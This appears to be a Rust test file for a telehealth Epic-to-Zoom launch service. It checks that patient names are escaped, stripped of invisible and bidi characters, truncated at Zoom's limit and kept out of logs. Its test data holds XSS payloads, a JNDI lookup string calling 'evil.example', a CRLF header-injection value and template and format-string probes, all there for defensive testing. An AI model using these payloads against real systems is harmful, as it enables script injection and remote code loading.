//! A person is shown by their name, whatever letters it has, and by nothing that only looks like one.

use std::sync::atomic::{AtomicU32, Ordering};

use sandbox::epic::{FdiOptions, TokenOverride};
use tests::{Hospital, Logs};

const STAYS: FdiOptions = FdiOptions {
    use_provider_zoom_account: false,
    no_redirect: true,
};

/// What a person reads of their name, and what others in the meeting do.
struct Shown {
    heading: String,
    in_zoom: String,
    body: String,
}

impl Shown {
    #[track_caller]
    fn assert_is(&self, first: &str, whole: &str) {
        let heading = format!("Hello {first}, your video visit is ready");
        assert_eq!(self.heading, heading);
        assert_eq!(self.in_zoom, whole);
    }
}

/// A new patient of this name opens the visit and joins.
async fn patient(hospital: &Hospital, name: TokenOverride) -> Shown {
    static NEXT: AtomicU32 = AtomicU32::new(0);
    let id = format!("P{}", NEXT.fetch_add(1, Ordering::SeqCst));
    hospital
        .epic
        .override_next_token(name.member("epicUserId", id));
    let launch = hospital.patient_launch_with(STAYS);
    let page = hospital.browser().open(&launch).await;
    assert_eq!(page.status, 200, "{}", page.text());
    let link = page.attribute("a.button", "href").unwrap();
    let session = hospital.zoom.join(&link, "").unwrap();
    let (heading, _) = page.text().split_once(" Open Zoom").map_or_else(
        || panic!("no button: {}", page.text()),
        |(heading, rest)| (heading.trim().to_owned(), rest.to_owned()),
    );
    Shown {
        heading,
        in_zoom: hospital.zoom.session(session).unwrap().name,
        body: page.body,
    }
}

fn named(first: &str, last: &str) -> TokenOverride {
    TokenOverride::new()
        .member("firstName", first)
        .member("lastName", last)
}

#[tokio::test]
async fn c27_markup_in_a_name_is_shown_as_it_stands() {
    let hospital = Hospital::open().await;
    for name in [
        "<script>alert(1)</script>",
        "\"><img src=x onerror=alert(1)>",
        "'><svg/onload=alert(1)>",
        "</h1></main><h1>",
        "<!--",
        "&amp;",
        "&lt;b&gt;",
        "O'Neil",
        "=1+1",
        "{{7*7}}",
        "${jndi:ldap://evil.example/x}",
        "{}",
        "%s%n",
    ] {
        let shown = patient(&hospital, named(name, "Lopez")).await;
        shown.assert_is(name, &format!("{name} Lopez"));
        if name.contains('<') {
            assert!(!shown.body.contains(name), "{name}");
        }
    }
}

#[tokio::test]
async fn c27_letters_that_nobody_sees_are_left_out() {
    let hospital = Hospital::open().await;
    for (first, shown) in [
        ("Ann\u{202e}eibbeD", "AnneibbeD"),
        ("\u{2066}Ann\u{2069}", "Ann"),
        ("\u{200f}Ann\u{61c}", "Ann"),
        ("A\u{200b}n\u{200d}n\u{feff}", "Ann"),
        ("A\u{2060}nn", "Ann"),
        ("An\u{0}n", "Ann"),
        ("An\u{7}n\u{1b}[31m", "Ann[31m"),
        ("Ann\r\nSet-Cookie: x=y", "Ann Set-Cookie: x=y"),
        ("  Ann \t Marie\u{a0} ", "Ann Marie"),
    ] {
        let page = patient(&hospital, named(first, "Lopez")).await;
        page.assert_is(shown, &format!("{shown} Lopez"));
    }
}

#[tokio::test]
async fn c27_a_name_is_cut_at_zooms_limit_and_between_letters() {
    let hospital = Hospital::open().await;
    let family = "\u{1f469}\u{1f3fd}"; // one letter to a person, two to a computer
    for (first, shown) in [
        ("x".repeat(500), "x".repeat(64)),
        ("\u{1f600}".repeat(100), "\u{1f600}".repeat(64)),
        (family.repeat(100), family.repeat(32)),
        (format!("{}{family}", "x".repeat(63)), "x".repeat(63)),
        // A tower of marks is no letter that could be cut off: what stands before it stays.
        (format!("Ann e{}", "\u{301}".repeat(200)), "Ann".to_owned()),
    ] {
        let page = patient(&hospital, named(&first, "")).await;
        page.assert_is(&shown, &shown);
        assert!(shown.chars().count() <= 64);
    }
}

#[tokio::test]
async fn c27_someone_without_a_name_is_called_by_their_role() {
    let hospital = Hospital::open().await;
    let without = || {
        TokenOverride::new()
            .without_member("firstName")
            .without_member("lastName")
    };
    for (name, first, whole) in [
        (without(), "Patient", "Patient"),
        (named("", ""), "Patient", "Patient"),
        (named("   ", "\u{200b}\t"), "Patient", "Patient"),
        (named("", "Lopez"), "Lopez", "Lopez"),
        (named(" \r\n", "Lopez"), "Lopez", "Lopez"),
        (named("Camila", ""), "Camila", "Camila"),
    ] {
        patient(&hospital, name).await.assert_is(first, whole);
    }
}

#[tokio::test]
async fn c27_a_providers_made_account_has_the_same_clean_name() {
    let hospital = Hospital::open().await;
    hospital
        .epic
        .override_next_token(named("<b>Ngozi\u{202e}\u{0}", "O\u{200b}'Kafor\r\n"));
    let launch = hospital.provider_launch();
    hospital.browser().until(&launch, "/zoom-client/").await;
    let users = hospital.zoom.users();
    let made = users
        .iter()
        .find(|user| user.email.starts_with("okafor@"))
        .unwrap();
    assert_eq!(made.name, "<b>Ngozi O'Kafor");
}

#[tokio::test]
async fn c27_no_name_is_logged_however_it_is_spelled() {
    let logs = Logs::record();
    let hospital = Hospital::open().await;
    for name in [
        "leak<script>",
        "leak\r\nleak",
        "${leak}",
        "leak\u{0}",
        "=leak",
    ] {
        patient(&hospital, named(name, name)).await;
    }
    let logs = logs.text();
    assert!(logs.contains("launch_entered"), "{logs}");
    assert!(!logs.contains("leak"), "{logs}");
}

#[tokio::test]
async fn c28_a_name_is_the_same_however_its_accents_were_typed() {
    let hospital = Hospital::open().await;
    for (composed, decomposed) in [
        ("S\u{e9}an", "Se\u{301}an"),
        ("Nguy\u{1ec5}n", "Nguye\u{302}\u{303}n"),
        ("\u{c5}sa", "A\u{30a}sa"),
        ("\u{c5}sa", "\u{212b}sa"),
        ("\u{1112}\u{1161}\u{11ab}", "\u{d55c}"),
    ] {
        let one = patient(&hospital, named(composed, composed)).await;
        let other = patient(&hospital, named(decomposed, decomposed)).await;
        assert_eq!(one.heading, other.heading);
        assert_eq!(one.in_zoom, other.in_zoom);
    }
}
